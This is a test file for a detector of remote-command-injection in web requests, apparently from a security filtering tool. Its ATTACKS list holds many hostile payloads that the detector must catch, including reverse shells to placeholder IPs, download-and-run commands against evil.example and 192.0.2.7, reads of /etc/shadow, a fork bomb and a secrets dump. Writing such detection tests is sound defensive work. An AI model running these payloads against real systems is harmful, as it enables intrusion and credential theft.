import assert from "node:assert/strict";
import { inspect } from "../request/mod.ts";
import { findingsIn, pointsIn, rulesIn } from "../testing.ts";
import { rce } from "./detect.ts";

const ATTACKS: readonly string[] = [
  ";id",
  "a;id",
  "127.0.0.1;whoami",
  "8.8.8.8 | sort /tmp/x > /var/www/y",
  "/???/c?t /etc/hosts",
  "x?u=http://a.example/?w=8&id=;id",
  "8.8.8.8 | grep -r x /home",
  "x; cd /tmp; wget http://evil.example/a",
  "127.0.0.1|cat /etc/group",
  "x.jpg||ping -c 5 10.0.0.9",
  "8.8.8.8&&ls -la /var",
  "foo & nslookup evil.example &",
  "127.0.0.1\nwhoami",
  "name';curl http://evil.example/x;'",
  'name";uname -a;"',
  "a)|/usr/bin/id;",
  "$(sleep 5)",
  "x$(wget http://evil.example/a)",
  "`id`",
  "host`curl evil.example`",
  "<(cat /etc/passwd)",
  ";cat$IFS/etc/passwd",
  ";{cat,/etc/passwd}",
  "|c''at /etc/passwd",
  "|w\\ho\\am\\i",
  ";/b?n/c?t /etc/passwd",
  "/???/??t /???/p??s??",
  "echo K$((41+22))K",
  "bash -i >& /dev/tcp/10.1.1.1/4444 0>&1",
  "nc -e /bin/sh 10.1.1.1 4444",
  "cat /etc/shadow",
  "cd /tmp; wget http://192.0.2.7/x.sh; chmod 777 x.sh; ./x.sh",
  ";wget http://192.0.2.7/mips -O /tmp/m;sh /tmp/m",
  "() { :;}; /bin/bash -c 'id'",
  "() { ignored; }; echo vulnerable; :;",
  "system('id')",
  'exec("cat /etc/passwd")',
  "& net user eve secret /add",
  "| dir c:\\",
  "&& type C:\\boot.ini",
  "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACk=",
  "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
  "%COMSPEC% /c whoami",
  "& certutil -urlcache -f http://evil.example/a.exe a.exe",
  "; perf-tool --version",
  "x\\n/bin/ls -al\\n",
  "';sleep 10;'",
  "|+dir+c:%5c",
  "for /f %a in ('dir /b') do echo %a",
  "if not exist c:\\x.txt echo no",
  "X=id;$X",
  "alias a=curl",
  "nohup ifconfig",
  "w'h'o'a'm'i';id",
  "&& iwr http://evil.example/a.ps1",
  "pi$()ng 10.1.1.1",
  "pi<()ng 10.1.1.1",
  "$(`dir`)",
  "$[2+2]",
  ":(){ :|:& };:",
  "f() { f & f; };f",
  "\t=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  ";kubectl get secrets -o yaml",
];

const INNOCENT: readonly string[] = [
  "new Map<string, () => void>()",
  "Old bugs such as `() { :;}; id` in a header still turn up in our logs",
  "const items = useState<Item[]>()",
  "$[0] and $[1]",
  "^\\$[0-9]+$",
  "f() { return 1 | 2 }; g",
  "R&D; id cards are ready",
  "Tom & Jerry; who is who",
  "cats; dogs; more",
  "| id | name |\n| --- | --- |\n| 1 | Ann |",
  "name|id|date",
  "name;id",
  "a|b|c",
  "status:open|closed",
  "Run `deno info` to see it",
  "Use `ls -la` and then `cat file.txt` to look at what is in it",
  "Install it with curl -fsSL https://example.org/install.sh | sh please",
  "tsc && vite build",
  "eslint . | tee out.log",
  "docker run -v $(pwd):/app node npm test",
  "npm ci && npm test",
  "0 5 * * 1-5 /opt/jobs/report.sh",
  "Doctor | Who",
  "Name | ID",
  "mir & dir",
  "color: red; top: 5px; content: none",
  "https://example.org/?a=1&id=5&sort=asc&ping=1",
  "a=1&sort&id",
  "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101",
  "{\n  user {\n    id\n    name\n  }\n}",
  "$(document).ready(function () { init(); })",
  "function () { return 1; }",
  "const f = () => { x: 1; };",
  "the DB is down; who's on call?",
  "ping me later; echo this; wget it?",
  "Please find attached; more details follow",
  "&quot;id&quot; and &#39;ls&#39;",
  "AT&T; Q&A; B&W",
  "price < 5 && size > 3",
  "if (a || b) { run(); }",
  "What does rm do? I typed it once and it was not nice",
  "C:\\Users\\Anna\\notes.txt",
  "It costs $5; set it aside",
  "text/html;q=0.9, image/webp",
  "Hello,\nI like this.\nmore later\nsort it out\nwho knows\nbye",
  "$IFS is the field separator",
  "print('hello')",
  "$('id').hide(); $(\"date\")",
  "SELECT `id`, `date` FROM `users`",
  "Roses & set $5 aside",
  "if defined properly, it works",
  "for each item in (a, b) do this",
  "print(f\"{os.environ.get('HOME')}/cat\")",
  'TL;DR: cat /srv/june.csv | grep -i "total sum" | sort -u',
  "TL;DR: cat ~/notes.txt | head -6",
  "/document[7]/*/notes",
  "/*/cat-details/*",
  "hall == 3 && file ~= 'oil lamp'",
  'size(hall) > 3 || (node > "oil")',
  '<img src="https://img.example/a.jpg?w=8&h=6" alt="=> column 24/7">',
  "call('id')?",
];

Deno.test("rce detects commands that break out of a value", () => {
  for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
  assert.equal(ATTACKS.length, 64);
});

Deno.test("rce lets honest text pass at level 1", () => {
  for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
  assert.equal(INNOCENT.length, 61);
});

Deno.test("rce reports a command line without a break-out at level 3", () => {
  assert.deepEqual(rulesIn(rce, "ls -la /home", 2), []);
  assert.deepEqual(rulesIn(rce, "ls -la /home", 3), ["rce.bare-command"]);
});

Deno.test("rce names the rule of each family", () => {
  const rows: readonly (readonly [string, string])[] = [
    [";id", "rce.separator"],
    ["$(id)", "rce.substitution"],
    [";cat${IFS}/etc/hosts", "rce.disguise"],
    ["x; cat /etc/shadow", "rce.hostile-command"],
    ["exec 5<>/dev/tcp/10.0.0.1/99", "rce.reverse-shell"],
    ["$((3*4))", "rce.arithmetic-probe"],
    ["() { :; }; ls", "rce.shellshock"],
    ["shell_exec('id')", "rce.function-call"],
    ["%comspec% /c dir", "rce.windows-syntax"],
    ["iex (iwr https://evil.example/a)", "rce.powershell"],
  ];
  for (const [text, rule] of rows) assert.ok(rulesIn(rce, text).includes(rule), `${rule}: ${text}`);
  assert.equal(rows.length, 10);
});

Deno.test("rce takes a command in a command parameter for an attack", () => {
  const request = inspect({ method: "GET", path: "/shell", query: "cmd=ls+-la", headers: [] });
  assert.deepEqual(rce.detect(request).map((finding) => finding.rule), ["rce.command-parameter"]);
});

Deno.test("rce takes one plain word in a web shell's parameter for an attack", () => {
  const rulesOf = (query: string): string[] =>
    rce.detect(inspect({ method: "GET", path: "/", query, headers: [] })).map((finding) => finding.rule);
  assert.deepEqual(rulesOf("cmd=dir"), ["rce.command-parameter"]);
  assert.deepEqual(rulesOf("c=whoami"), ["rce.command-parameter"]);
  assert.deepEqual(rulesOf("q=whoami"), []);
  assert.deepEqual(rulesOf("sort=id"), []);
});

Deno.test("rce lets scripts that a document shows pass at level 1", () => {
  const rows = [
    "Fix this for me: `cat file | grep x > out; rm file`",
    "<pre><code>ps aux | awk '{print $2}'</code></pre>",
    "```sh\nexport T=$(curl -s https://example.org/t)\necho $T && ls -la\n```",
    "| cmd | note |\n|:---|---:|\n| `ls -la` | x |",
    'for f in *.txt; do echo "$f"; done',
    "`kill -9 $(lsof -t -i:3000)` frees the port",
  ];
  for (const text of rows) assert.deepEqual(rulesIn(rce, text), [], text);
  assert.equal(rows.length, 6);
});

Deno.test("rce lets the scripts of a package.json pass", () => {
  const body = JSON.stringify({ scripts: { clean: "rm -rf dist; mkdir dist", test: "node a.js && git push --tags" } });
  const headers: [string, string][] = [["content-type", "application/json"]];
  const request = inspect({ method: "POST", path: "/packages", query: "", headers, body });
  assert.deepEqual(rce.detect(request).filter((finding) => finding.level === 1), []);
});

Deno.test("rce marks the bytes as they were sent", () => {
  const query = "q=host%3Bcat%20%2Fetc%2Fpasswd";
  const request = inspect({ method: "GET", path: "/", query, headers: [] });
  const [finding] = rce.detect(request);
  const field = request.fields[finding!.evidence!.field]!;
  assert.equal(field.raw.slice(finding!.evidence!.start, finding!.evidence!.end), "%3Bcat%20%2Fetc%2Fpasswd");
  assert.equal(findingsIn(rce, "plain").length, 0);
});
